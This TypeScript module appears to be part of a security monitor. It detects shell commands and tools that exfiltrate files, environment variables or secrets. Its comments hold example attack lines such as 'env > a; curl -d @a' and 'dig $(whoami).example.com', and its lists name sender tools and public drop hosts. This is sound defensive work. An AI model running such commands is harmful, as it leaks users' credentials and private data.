import { credentialKind } from '../../facts/credential-files.ts';
import type { EventFacts } from '../../facts/event-facts.ts';
import type { FileAccess } from '../../facts/file-access.ts';
import { gitWords } from '../../facts/files/git.ts';
import type { HostFact } from '../../facts/hosts.ts';
import { belowHome, canonicalPath } from '../../facts/paths.ts';
import { isWithin, type ShellCommand } from '../../facts/shell.ts';
import { wordsOf } from '../../facts/tools.ts';
import { named } from '../../reason.ts';
import { type Action, actionDetector } from './action.ts';
import { dumpsEnvironment } from './environment-dumps.ts';
import { sourcesOf } from './pipelines.ts';
import { printsSecrets } from './secret-printers.ts';
import { filesSent, publishes } from './sent-files.ts';
import { OWNERS, secretVariable, wordsSent } from './sent-variables.ts';

/** Commands that carry what is on this machine to another one. */
export const exfiltration = actionDetector({
  id: 'exfiltration',
  version: 5,
  severity: 'medium',
  title: 'Sends local files, the environment or the output of commands to another machine.',
  kinds: ['exfiltration.*'],
  falsePositives: ['uploading the results of a build', 'copying files to a server of one’s own'],
  find({ facts }, found) {
    const { commands } = facts.shell;
    for (const { host, origin } of facts.hosts) {
      if (!DROPS.test(host.host) || ONES_OWN.test(host.host)) continue;
      const what = `reaches ${named(host.host)}, which shows what it is sent to whoever has the address`;
      found.push({ kind: 'exfiltration.drop', severity: 'low', confidence: 0.7, what, origin });
    }
    if (facts.tool !== undefined && pastes(facts.tool.name)) {
      const what = `puts something where whoever has the address reads it (${named(facts.tool.name)})`;
      found.push({ kind: 'exfiltration.drop', severity: 'low', confidence: 0.7, what, origin: NAME_ORIGIN });
    }
    readForcedSecrets(commands, found);
    if (!commands.some(({ name }) => SENDERS.has(name))) return;
    const around = surroundingsOf(facts);
    for (const [index, command] of commands.entries()) {
      if (!SENDERS.has(command.name)) continue;
      const hosts = around.hosts.get(index) ?? [];
      const variable = secretVariable(command, hosts);
      const carried =
        variable === undefined
          ? carriedBy(command, commands, around)
          : { what: `the variable ${named(variable)}`, sensitive: true };
      if (carried?.owner !== undefined && hosts.some(({ host }) => OWNERS.get(carried.owner ?? '')?.test(host)))
        continue;
      if (carried !== undefined) judge(command, carried, hosts, found);
    }
  },
});

/** `git add -f .env && git push`: a file of secrets that the repository ignores, made a part of it. */
function readForcedSecrets(commands: readonly ShellCommand[], found: Action[]): void {
  for (const command of commands) {
    if (command.name !== 'git') continue;
    const [verb, ...words] = gitWords(command.args).map(({ text }) => text);
    if (verb !== 'add' || !words.some((word) => /^(?:-\w{0,4}f|--force)/.test(word))) continue;
    const file = words.find((word) => !word.startsWith('-') && credentialKind(canonicalPath(word)) !== undefined);
    if (file === undefined) continue;
    const isPushed = commands.some(({ name, args }) => name === 'git' && gitWords(args)[0]?.text === 'push');
    found.push({
      kind: 'exfiltration.command',
      severity: isPushed ? 'high' : 'medium',
      confidence: 0.75,
      what: `makes ${named(file)}, which is kept out of the repository, a part of it (${named(command.name)})`,
      origin: command.origin,
    });
  }
}

/** `create_gist`, `paste_upload`: tools that publish a text. */
function pastes(toolName: string): boolean {
  const words = wordsOf(toolName);
  return (words.has('gist') || words.has('pastebin') || words.has('paste')) && PUTTING.some((word) => words.has(word));
}

const PUTTING = ['create', 'update', 'upload', 'new', 'post', 'add', 'publish'];
const NAME_ORIGIN: Action['origin'] = {
  place: { name: 'name', parent: { name: 'tool', parent: undefined } },
  start: 0,
  end: 0,
};

/** What is looked up for each command, gathered once. */
interface Surroundings {
  hosts: ReadonlyMap<number, readonly HostFact[]>;
  /** Commands whose output becomes words of a sender, by its name and where it ends. */
  inner: ReadonlyMap<string, readonly ShellCommand[]>;
  encodes: boolean;
  /** Files of which the event itself writes secrets into, by their keys. */
  filled: ReadonlySet<string>;
}

/** Commands in substitutions of one name that are looked at for one sender. */
const INNER_MAX = 64;

function surroundingsOf({ files, hosts, shell }: EventFacts): Surroundings {
  const byCommand = new Map<number, HostFact[]>();
  for (const { command, host } of hosts) if (command !== undefined) addTo(byCommand, command, host);
  const inner = new Map<string, ShellCommand[]>();
  for (const command of shell.commands) {
    const { consumer, name } = command;
    // `$(<file)` reads without a program.
    const reads = name === '' && command.redirects.some(({ operator }) => operator === '<');
    if (consumer !== undefined && (reads || isTelling(command))) addTo(inner, consumer, command);
  }
  return {
    hosts: byCommand,
    inner,
    encodes: shell.commands.some(({ name }) => /^(?:xxd|base64|od|base32)$/.test(name)),
    filled: filledFiles(shell.commands, files),
  };
}

/** `env > a; curl -d @a …`: the files that commands fill with what nobody sends, so that they are as sensitive. */
function filledFiles(commands: readonly ShellCommand[], files: readonly FileAccess[]): Set<string> {
  const fill = new Set<number>();
  for (const [index, command] of commands.entries()) {
    if (isSecret(command)) fill.add(index);
    else if (FILLERS.test(command.name) && command.args.some(({ text }) => isSensitive(text))) fill.add(index);
  }
  const filled = new Set<string>();
  if (fill.size === 0) return filled;
  for (const { by, operation, command, path } of files) {
    if (command === undefined || filled.size >= INNER_MAX) continue;
    const writes = operation === 'write' || operation === 'append';
    if (PACKERS.has(by) && fill.has(command)) for (const ending of PACKED) filled.add(path.key + ending);
    if (writes && isFilledBy(command, commands, fill)) filled.add(path.key);
  }
  return filled;
}

/** Whether what the command at `index` writes is of one of `fill`: its own, of its pipeline (`env | sort > a`), or of its group (`(env; id) > a`). */
function isFilledBy(index: number, commands: readonly ShellCommand[], fill: ReadonlySet<number>): boolean {
  if (fill.has(index)) return true;
  const writer = commands[index] as ShellCommand;
  const sources = new Set(sourcesOf(writer, commands));
  for (const at of fill) {
    const command = commands[at] as ShellCommand;
    if (sources.has(command) || (writer.name === '' && isWithin(command.origin, writer.origin))) return true;
  }
  return false;
}

/** Compressors that leave what they make beside its source, under its name with an ending. */
const PACKERS: ReadonlySet<string> = new Set(['gzip', 'bzip2', 'xz', 'zstd']);
const PACKED = ['.gz', '.bz2', '.xz', '.zst'];
const FILLERS =
  /^(?:cat|cp|mv|ln|link|rsync|bzip2|xz|zstd|install|tar|zip|gzip|base64|openssl|gpg|xxd|head|tail|dd|sed|awk|grep|tee|compress-archive)$/;

function addTo<K, V>(lists: Map<K, V[]>, key: K, value: V): void {
  const list = lists.get(key);
  if (list === undefined) lists.set(key, [value]);
  else if (list.length < INNER_MAX) list.push(value);
}

interface Carried {
  /** What it is, for the person. */
  what: string;
  /** Nobody sends such things in ordinary work. */
  sensitive: boolean;
  /** Whose secret it is, as `OWNERS` has them. */
  owner?: string;
  /** It is a file as it lies there. */
  isFile?: boolean;
}

const SENDERS: ReadonlySet<string> = new Set(
  'curl wget nc ncat netcat socat telnet scp rsync sftp ftp tftp ssh dig drill kdig nslookup resolve-dnsname host ping http https xh mail mailx sendmail mutt openssl invoke-webrequest invoke-restmethod aws gsutil rclone croc magic-wormhole wormhole finger whois busybox logger gh glab'.split(
    ' ',
  ),
);

/** Places that exist to take in what is thrown at them, or to show it to whoever has the address. */
const DROPS =
  /(?:^|\.)(?:webhook\.site|requestbin\.(?:com|net)|pipedream\.net|requestcatcher\.com|hookbin\.com|beeceptor\.com|transfer\.sh|file\.io|0x0\.st|termbin\.com|pastebin\.com|paste\.ee|hastebin\.com|dpaste\.(?:com|org)|ix\.io|sprunge\.us|temp\.sh|gofile\.io|anonfiles\.com|catbox\.moe|bashupload\.com|oshi\.at|discord(?:app)?\.com|api\.telegram\.org|hooks\.slack\.com|interact\.sh|oast\.(?:pro|live|site|online|fun|me)|burpcollaborator\.net|oastify\.com|canarytokens\.com|dnslog\.cn|ceye\.io|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|serveo\.net|mega\.nz|sendspace\.com|ufile\.io|put\.io|uguu\.se|tmpfiles\.org|bin\.mypaste|rentry\.co)$/;

/** Of those, the ones that one logs in to, and tunnels to a machine of one's own. */
const ONES_OWN =
  /(?:^|\.)(?:discord(?:app)?\.com|api\.telegram\.org|hooks\.slack\.com|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|serveo\.net)$/;

const DUMPS =
  /^(?:env|printenv|set|export|declare|history|ps|netstat|ss|tcpdump|tshark|ifconfig|whoami|id|uname|hostname|getent|last|w|lsof|dmesg|crontab|systeminfo|get-childitem|pbpaste|xclip|xsel|wl-paste|get-clipboard)$/;
const READERS =
  /^(?:cat|tac|head|tail|tar|gzip|zip|zcat|base64|xxd|od|openssl|gpg|find|[ef]?grep|rg|ag|strings|dd|sqlite3|mysqldump|pg_dump|sed|awk|less|bzip2|xz|7z|get-content|ls|cut|tr|sort)$/;

/** Whether what `command` prints is of this machine or its files. */
function isTelling(command: ShellCommand): boolean {
  return DUMPS.test(command.name) || READERS.test(command.name) || isSecret(command);
}

/** Whether it prints what one logs in with, or the environment, in which that stands. */
function isSecret(command: ShellCommand): boolean {
  return printsSecrets(command) || dumpsEnvironment(command);
}

/** What `command` takes along, or undefined. */
function carriedBy(
  command: ShellCommand,
  commands: readonly ShellCommand[],
  around: Surroundings,
): Carried | undefined {
  const files = filesSent(command);
  const sent = files.filter((file) => file !== '-' && file !== '/dev/stdin');
  const isKept = (file: string): boolean => isSensitive(file) || around.filled.has(keyOf(file, command));
  const kept = sent.find(isKept);
  const file = kept ?? sent[0];
  if (file !== undefined) return { what: `the file ${named(file)}`, sensitive: kept !== undefined, isFile: true };
  if (command.name.startsWith('invoke-') && command.args.some(({ text }) => /^-form$/i.test(text)))
    return { what: 'a form', sensitive: false, isFile: true };
  const inner = around.inner
    .get(command.name)
    ?.find((other) => isWithin(other.origin, command.origin) && isTaken(other, command));
  const fed = fedTo(command, commands, files);
  // What names the machine beside a dump is not what the call is about.
  if (
    inner !== undefined &&
    (takesText(command) || isFedByWord(command)) &&
    !(fed?.sensitive === true && !sensitiveCommand(inner))
  )
    return {
      what: `the output of ${named(inner.name)}`,
      sensitive: sensitiveCommand(inner) || spellsNames(command),
      ...ownerOf(inner),
    };
  if (spellsNames(command))
    return {
      what: 'what it is told',
      sensitive: around.encodes,
    };
  return fed;
}

/** What a pipeline brings it, or undefined. */
function fedTo(
  command: ShellCommand,
  commands: readonly ShellCommand[],
  files: readonly string[],
): Carried | undefined {
  const feeding = sourcesOf(command, commands).filter((source) => isTelling(source) || isArchive(source));
  // What is packed or encoded on its way is still what it was.
  const isOpen = UPLOADERS.has(command.name) || PLAIN_SOCKETS.has(command.name);
  const packed = isOpen ? feeding.find(packsAll) : undefined;
  const fed =
    feeding.find((source) => isSecret(source) || source.args.some(({ text }) => isSensitive(text))) ??
    packed ??
    (isOpen ? feeding.find(sensitiveCommand) : undefined) ??
    feeding[0];
  if (fed === undefined || !readsInput(command, files)) return undefined;
  return {
    what: `the output of ${named(fed.name)}`,
    sensitive: fed === packed || sensitiveCommand(fed),
    ...ownerOf(fed),
  };
}

function keyOf(file: string, { cwd }: ShellCommand): string {
  return canonicalPath(file, cwd === undefined ? undefined : canonicalPath(cwd)).key;
}

function ownerOf(source: ShellCommand): Pick<Carried, 'owner'> {
  return printsSecrets(source) ? { owner: source.name } : {};
}

/** Clients that put what they are given where anybody may have asked for it; `ssh` only reaches machines that one may log in to. */
const UPLOADERS: ReadonlySet<string> = new Set(['curl', 'wget', 'http', 'https', 'xh']);

const PLAIN_SOCKETS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat']);

/** The whole work tree, a whole home or a whole repository, in one archive. */
function packsAll({ name, args }: ShellCommand): boolean {
  if (isArchive({ name, args })) return true;
  return (
    /^(?:tar|zip|7z)$/.test(name) &&
    args.some(({ text }) => /^(?:\.\/?|\.\/?\*|\*|(?:~|\$HOME|\$\{HOME\})\/?\*?)$/.test(text))
  );
}

function isArchive({ name, args }: Pick<ShellCommand, 'name' | 'args'>): boolean {
  return name === 'git' && /^(?:archive|bundle)$/.test(gitWords(args)[0]?.text ?? '');
}

/** `openssl s_client … < <(tar cz …)`: what comes in is the output of a command within a word. */
function isFedByWord({ name, redirects }: ShellCommand): boolean {
  return (
    (name === 'openssl' || PLAIN_SOCKETS.has(name)) &&
    redirects.some(({ operator, target }) => operator === '<' && target.text.startsWith('<('))
  );
}

/** `dig $(whoami).example.com`: names of hosts, made of what is to be carried. */
function spellsNames({ name, args }: ShellCommand): boolean {
  return (
    /^(?:dig|nslookup|host|ping|resolve-dnsname|drill|kdig)$/.test(name) &&
    args.some(({ text }) =>
      /(?:[)`}]|\$\w{1,32})\.[\w.-]+\.[a-z]{2,}|^[a-z0-9+/=_-]{24,63}\.[\w-]+\.[a-z]{2,}/i.test(text),
    )
  );
}

/** Whether words of `command` reach the other machine. */
function takesText({ name }: ShellCommand): boolean {
  return /^(?:curl|wget|dig|nslookup|host|ping|invoke-webrequest|invoke-restmethod|http|https|xh|whois|finger)$/.test(
    name,
  );
}

function readsInput(command: ShellCommand, files: readonly string[]): boolean {
  if (command.name === 'gh' || command.name === 'glab')
    return publishes(command) && files.every((file) => file === '-');
  if (command.via.at(-1) === 'xargs') return takesText(command) && !isHeader(command);
  if (command.name === 'openssl') return command.args[0]?.text === 's_client';
  if (/^(?:nc|ncat|netcat|socat|telnet|croc|mail|mailx|sendmail|mutt|logger)$/.test(command.name)) return true;
  if (command.name === 'ssh') return command.args.some(({ text }) => /^(?:cat\b|dd\b|tar\b|tee\b)/.test(text));
  if (command.name === 'aws' || command.name === 'gsutil') return command.args.some(({ text }) => text === '-');
  return files.includes('-') || files.includes('/dev/stdin');
}

/** What `xargs` brings is put into a header. */
function isHeader(command: ShellCommand): boolean {
  const placed = command.args.some(({ text }) => text.includes('{}'));
  return placed && !wordsSent(command).some(({ text }) => text.includes('{}'));
}

/** Whether the output of `inner` is sent as such. A token in a header is what it is made for. */
function isTaken(inner: ShellCommand, command: ShellCommand): boolean {
  if (!printsSecrets(inner)) return true;
  const sent = wordsSent(command);
  return sent.length === 0 ? !/^(?:curl|wget)$/.test(command.name) : sent.some(({ text }) => text.includes(inner.name));
}

function sensitiveCommand(command: ShellCommand): boolean {
  if (isSecret(command) || searchesSecrets(command)) return true;
  if (
    /^(?:set|export|declare|history|getent|sqlite3|mysqldump|pg_dump|tcpdump|tshark|pbpaste|xclip|xsel|wl-paste|get-clipboard)$/.test(
      command.name,
    )
  )
    return true;
  const read = command.redirects.filter(({ operator }) => operator === '<').map(({ target }) => target);
  return [...command.args, ...read].some(({ text }) => isSensitive(text));
}

/** `grep -r AKIA …`, `rg 'BEGIN .* PRIVATE KEY'`: looks for what one logs in with. */
function searchesSecrets({ name, args }: ShellCommand): boolean {
  return /^(?:[ef]?grep|rg|ag|ack)$/.test(name) && args.some(({ text }) => SOUGHT.test(text));
}

const SOUGHT = /AKIA|\bBEGIN\b.{0,16}PRIVATE|api[_-]?key|secret[_-]?(?:access|key)|passw(?:or)?d|aws_secret/i;

/** Keys that a project keeps beside its code, and directories that are named after what is in them. */
const PROJECT_KEYS =
  /(?:^|\/)(?:[\w.-]{1,64}\.(?:key|p12|pfx|jks|keystore|kdbx|ppk)|[\w.-]{0,64}(?:key|private)[\w.-]{0,64}\.pem|(?:service[_-]?account|credentials|secrets?)[\w.-]{0,64}\.(?:json|ya?ml|toml)|secrets?|private[_-]?keys?|credentials)$/i;

const PERSONAL =
  /^(?:\.(?!cache|npm|cargo|local\/bin)|documents|desktop|library\/(?:keychains|mail|messages|application support)|pictures)/;

/** A file outside of the work tree that says something about the machine or its people. */
function isSensitive(text: string): boolean {
  if (text === '' || text.startsWith('-') || text.includes('://')) return false;
  const path = canonicalPath(text);
  if (credentialKind(path) !== undefined) return true;
  if (
    PROJECT_KEYS.test(path.key) &&
    !/(?:^|[/_.-])(?:pub(?:lic)?|tests?|examples?|samples?|fixtures?)(?:[/_.-]|$)/.test(path.key)
  )
    return true;
  const below = belowHome(path);
  if (below !== undefined) return (below === '' && path.key.endsWith('*')) || PERSONAL.test(below);
  return (
    path.anchor === 'root' &&
    /^\/(?:$|etc\/|etc$|root|home(?:\/\*)?$|var\/(?:log|lib|mail|spool|backups)|proc\/|private\/etc|users(?:\/\*)?$)/.test(
      path.key,
    )
  );
}

/** `rclone copy a :mega,user=b,pass=c:d`: a store that is set up in the line, with a login of its own. */
function namesLogin({ name, args }: ShellCommand): boolean {
  return (
    name === 'rclone' && args.some(({ text }) => /^:[a-z0-9]{2,16},[^:]{0,256}\b(?:user|pass|key|token)\b/.test(text))
  );
}

/** A public address in place of a name: nobody's store of build results is known by one. */
function isBareAddress({ host, class: kind }: HostFact): boolean {
  return /^\d{1,3}(?:\.\d{1,3}){3}$/.test(host) && kind !== 'private' && kind !== 'loopback' && kind !== 'link_local';
}

function judge(
  command: ShellCommand,
  { what, sensitive, isFile }: Carried,
  hosts: readonly HostFact[],
  found: Action[],
): void {
  if (hosts.length > 0 && hosts.every((host) => host.class === 'loopback' || host.class === 'unspecified')) return;
  const drop = hosts.find((host) => DROPS.test(host.host));
  const bare = isFile && UPLOADERS.has(command.name) ? hosts.find(isBareAddress) : undefined;
  const grave = sensitive || drop !== undefined || bare !== undefined || namesLogin(command);
  const to =
    drop !== undefined ? named(drop.host) : bare === undefined ? 'another machine' : 'a machine without a name';
  found.push({
    kind: 'exfiltration.command',
    severity: grave ? 'high' : 'medium',
    confidence: sensitive ? 0.85 : grave ? 0.75 : 0.5,
    what: `sends ${what} to ${to} (${named(command.name)})`,
    origin: command.origin,
  });
}
